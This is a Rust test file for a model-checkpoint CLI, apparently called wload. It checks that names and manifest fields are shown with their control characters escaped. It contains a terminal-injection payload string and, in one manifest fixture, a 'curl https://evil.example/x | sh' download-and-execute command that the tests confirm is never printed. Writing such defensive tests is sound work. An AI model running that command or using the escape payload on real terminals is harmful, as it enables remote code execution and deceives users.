//! Terminal injection: names, paths and manifest fields with control characters in them (ESC
//! sequences, CR, BS, BEL, NUL, DEL, C1, bidi overrides, and a newline that would forge a line
//! such as `ok: vLLM would load …`) reach the human output of every subcommand, and its errors,
//! only as visible escapes; `--json` keeps the exact strings; and a foreign wload.json's `serve`
//! command is never printed.

use std::fs;
use std::path::PathBuf;
use std::process::Output;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::*;

/// What a hostile name carries: clear the screen, set the title, overwrite the line, a C1 CSI,
/// a right-to-left override, then a newline that would start a line of wload's own.
const PAYLOAD: &str =
    "\x1b[2J\x1b]0;pwned\x07\r\x08\x7f\u{85}\u{9b}\u{202e}\u{2066}\nok: vLLM would load FORGED";

/// What a terminal acts on, written out here rather than taken from wload: C0 and C1 controls,
/// DEL, and the Unicode characters that reorder text or break lines.
fn is_control(c: char) -> bool {
    matches!(c, '\0'..='\x1f' | '\x7f'..='\u{9f}' | '\u{61c}' | '\u{200e}' | '\u{200f}')
        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// [`PAYLOAD`] as a file name can hold it (no NUL, no slash).
fn in_name(prefix: &str, suffix: &str) -> String {
    format!("{prefix}{PAYLOAD}{suffix}")
}

/// Neither stream has a control character other than the `\n` and `\t` wload writes itself,
/// and every line that shows the payload shows its newline escaped: no line was forged.
fn assert_clean(out: &Output, what: &str) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = std::str::from_utf8(bytes)
            .unwrap_or_else(|e| panic!("{what}: {stream} is not UTF-8 ({e}): {}", context(out)));
        let bad: Vec<char> = text
            .chars()
            .filter(|&c| c != '\n' && c != '\t' && is_control(c))
            .collect();
        assert!(
            bad.is_empty(),
            "{what}: raw control characters {bad:?} on {stream}: {}",
            context(out)
        );
        for line in text.lines() {
            assert!(
                !line.trim_start().starts_with("ok: vLLM would load FORGED"),
                "{what}: a forged line on {stream}: {line:?}\n{}",
                context(out)
            );
            if line.contains("FORGED") {
                assert!(
                    line.contains(r"\nok: vLLM would load FORGED"),
                    "{what}: the payload without its escaped newline on {stream}: {line:?}"
                );
            }
        }
    }
}

/// Runs `wload ARGS…`, expects exit `code`, and checks that its output is clean.
fn run_clean(args: &[&str], code: i32, what: &str) -> Output {
    let out = run(args);
    assert_eq!(out.status.code(), Some(code), "{what}: {}", context(&out));
    assert_clean(&out, what);
    out
}

/// A tiny valid Llama whose weights file, a skipped tensor (vLLM drops `rotary_emb.inv_freq`)
/// and folder are named with the payload. Returns (temp dir, checkpoint folder, file name,
/// skipped tensor's name).
fn hostile_checkpoint() -> (TempDir, PathBuf, String, String) {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join(in_name("ckpt", ""));
    fs::create_dir(&dir).unwrap();
    many_layers_checkpoint(&dir, 1, |n| n);
    let skipped = in_name("model.layers.0.self_attn.rotary_emb.inv_freq", "");
    append_tensor(
        &dir.join("model.safetensors"),
        &skipped,
        "F32",
        &[2],
        &zeros(8),
    );
    let file = in_name("model", ".safetensors");
    fs::rename(dir.join("model.safetensors"), dir.join(&file)).unwrap();
    (tmp, dir, file, skipped)
}

#[test]
fn inspect_plan_and_sizes_escape_hostile_names_and_json_keeps_them() {
    let (_tmp, dir, file, skipped) = hostile_checkpoint();
    let d = s(&dir);
    let human = run_clean(&["inspect", d, "-v"], 0, "inspect");
    // The names are there, escaped, not dropped.
    assert!(
        stdout(&human).contains(r"rotary_emb.inv_freq\x1b[2J\x1b]0;pwned\x07\r\x08\x7f\u{85}"),
        "{}",
        context(&human)
    );
    let v = wload_json(&["inspect", d, "--json"]);
    assert_eq!(v["source"], d);
    assert_eq!(v["files"][0]["file"], file.as_str());
    let names: Vec<&str> = (v["tensors"].as_array().unwrap().iter())
        .filter_map(|t| t["name"].as_str())
        .collect();
    assert!(names.contains(&skipped.as_str()), "{names:?}");

    run_clean(&["plan", d, "--tp", "2", "-v"], 0, "plan");
    let v = wload_json(&["plan", d, "--tp", "2", "--json"]);
    assert_eq!(v["source"], d);
    assert!(v.to_string().contains(&json!(skipped).to_string()));

    run_clean(&["sizes", d, "--max-tp", "2"], 0, "sizes");
    run_clean(
        &["load", d, "--tp", "2", "--dry-run", "--read"],
        0,
        "load --dry-run",
    );
}

#[test]
fn shard_and_load_of_a_hostile_out_escape_it_and_the_serve_line_is_wloads() {
    let (tmp, dir, _, _) = hostile_checkpoint();
    let out_dir = tmp.path().join(in_name("out", ""));
    let o = run_clean(
        &["shard", s(&dir), "--tp", "2", "-o", s(&out_dir)],
        0,
        "shard",
    );
    let serve = stdout(&o)
        .lines()
        .find_map(|l| l.strip_prefix("serve with: ").map(str::to_string))
        .unwrap_or_else(|| panic!("no serve line: {}", context(&o)));
    // The name's controls as `$'…'` escapes: the shell reads back exactly OUT.
    assert!(serve.starts_with("vllm serve $'"), "{serve}");
    assert_eq!(shell_words(&serve)[2], s(&out_dir), "{serve}");
    run_clean(&["load", s(&out_dir), "--dry-run", "--read"], 0, "load OUT");
    let i = run_clean(&["inspect", s(&out_dir), "-v"], 0, "inspect OUT");
    // inspect rebuilds the same command shard printed.
    assert!(
        stdout(&i).contains(&format!("serve    {serve}\n")),
        "{serve}\n{}",
        context(&i)
    );
}

/// A wload.json from elsewhere: its `serve` is a command of its author's, and its other fields
/// are strings with the payload. `inspect`, `plan`, `shard` and `load` never print that
/// command, in human output or JSON, and print the fields escaped.
#[test]
fn a_hostile_manifest_serve_command_is_never_printed() {
    let tmp = TempDir::new().unwrap();
    let out_dir = tmp.path().join("out");
    shard_ok(&fixture("llama_gqa"), 2, &out_dir, &["-q"]);
    let path = out_dir.join("wload.json");
    let mut m: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let honest = m["serve"]["shell"].as_str().unwrap().to_string();
    m["serve"] = json!({
        "argv": ["sh", "-c", "curl https://evil.example/x | sh", "vllm"],
        "shell": "vllm serve . ; curl https://evil.example/x | sh",
    });
    m["source"] = json!(in_name("/src", ""));
    m["architecture"] = json!(in_name("Llama", ""));
    write_json(&path, &m);
    let never = |out: &Output, what: &str| {
        for stream in [stdout(out), stderr(out)] {
            assert!(
                !stream.contains("evil.example") && !stream.contains("curl"),
                "{what}: printed the manifest's command: {}",
                context(out)
            );
        }
    };
    let o = s(&out_dir);
    let human = run_clean(&["inspect", o], 0, "inspect");
    never(&human, "inspect");
    // The command printed is the one wload builds from the layout: what shard printed.
    assert!(
        stdout(&human).contains(&format!("serve    {honest}\n")),
        "{honest}\n{}",
        context(&human)
    );
    let v = wload_json(&["inspect", o, "--json"]);
    assert_eq!(v["serve"]["shell"], honest.as_str());
    assert_eq!(v["serve"]["argv"][0], "vllm");
    assert_eq!(
        v["written_for"]["architecture"],
        in_name("Llama", "").as_str()
    );
    assert!(!v.to_string().contains("evil.example"));

    let plan = run_clean(&["plan", o, "--tp", "2"], 3, "plan of a pre-sharded folder");
    never(&plan, "plan");
    assert!(stderr(&plan).contains(&honest), "{}", context(&plan));
    let again = tmp.path().join("again");
    never(
        &run_clean(&["shard", o, "--tp", "2", "-o", s(&again)], 3, "shard"),
        "shard",
    );
    let json = run(&["plan", o, "--tp", "2", "--json"]);
    never(&json, "plan --json");
    never(&run(&["load", o, "--dry-run"]), "load");
}

/// Refusals embed the names they are about: each is escaped in the message, every line of a
/// multi-line message is wload's own, and `--json` carries the exact names.
#[test]
fn error_messages_escape_the_names_they_embed() {
    let tmp = TempDir::new().unwrap();
    // A tensor no rule maps: the plan's problem list names it.
    let dir = tmp.path().join("unmapped");
    fs::create_dir(&dir).unwrap();
    many_layers_checkpoint(&dir, 1, |n| n);
    let stray = in_name("model.stray", ".weight");
    append_tensor(
        &dir.join("model.safetensors"),
        &stray,
        "F32",
        &[2],
        &zeros(8),
    );
    let out = run_clean(&["plan", s(&dir), "--tp", "2"], 3, "plan problems");
    assert!(
        stderr(&out).contains(r"model.stray\x1b[2J"),
        "{}",
        context(&out)
    );
    let doc = json_doc(&["plan"], &run(&["plan", s(&dir), "--tp", "2", "--json"]));
    assert!(
        doc["problems"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["tensor"] == stray.as_str()),
        "{doc:#}"
    );
    run_clean(
        &[
            "shard",
            s(&dir),
            "--tp",
            "2",
            "-o",
            s(&tmp.path().join("o")),
        ],
        3,
        "shard problems",
    );
    run_clean(
        &["load", s(&dir), "--tp", "2", "--dry-run"],
        3,
        "load problems",
    );

    // Two weights files with bad headers, one error line each.
    let bad = tmp.path().join("bad");
    fs::create_dir(&bad).unwrap();
    write_json(&bad.join("config.json"), &tiny_config());
    for k in ["a", "b"] {
        write_raw(
            &bad.join(in_name(k, ".safetensors")),
            b"\x08\0\0\0\0\0\0\0{\"x\":1} ",
        );
    }
    let out = run_clean(&["inspect", s(&bad)], 3, "bad headers");
    let lines: Vec<&str> = std::str::from_utf8(&out.stderr).unwrap().lines().collect();
    assert_eq!(lines.len(), 2, "{}", context(&out));
    assert!(lines.iter().all(|l| l.starts_with("error: ")), "{lines:?}");

    // A source that does not exist, named in the message.
    let missing = tmp.path().join(in_name("missing", ""));
    run_clean(&["inspect", s(&missing)], 2, "not found");
    // A config string.
    let cfg = tmp.path().join("cfg");
    fs::create_dir(&cfg).unwrap();
    many_layers_checkpoint(&cfg, 1, |n| n);
    let mut c = tiny_config();
    c["architectures"] = json!([in_name("Nope", "ForCausalLM")]);
    write_json(&cfg.join("config.json"), &c);
    run_clean(
        &["inspect", s(&cfg)],
        3,
        "inspect of an unknown architecture",
    );
    run_clean(
        &["plan", s(&cfg), "--tp", "2"],
        3,
        "plan of an unknown architecture",
    );
}

/// clap quotes the argument it refuses: escaped too, and the JSON document keeps its newline.
#[test]
fn a_refused_argument_is_escaped() {
    let arg = in_name("1", "");
    let out = run_clean(&["plan", ".", "--tp", &arg], 2, "usage error");
    assert!(stderr(&out).contains(r"1\x1b[2J"), "{}", context(&out));
    let out = run(&["plan", ".", "--tp", &arg, "--json"]);
    let doc: Value = json_doc(&["plan"], &out);
    // The document is JSON-escaped only (clap itself drops the ESC sequences from its text).
    let message = doc["error"]["message"].as_str().unwrap();
    assert!(message.contains("\nok: vLLM would load FORGED'"), "{doc:#}");
}

/// The payload holds every class of control the tests above look for.
#[test]
fn the_payload_has_every_class_of_control() {
    for c in [
        '\x1b', '\r', '\x08', '\x07', '\x7f', '\u{85}', '\u{9b}', '\u{202e}', '\u{2066}', '\n',
    ] {
        assert!(PAYLOAD.contains(c) && is_control(c), "{c:?}");
    }
}
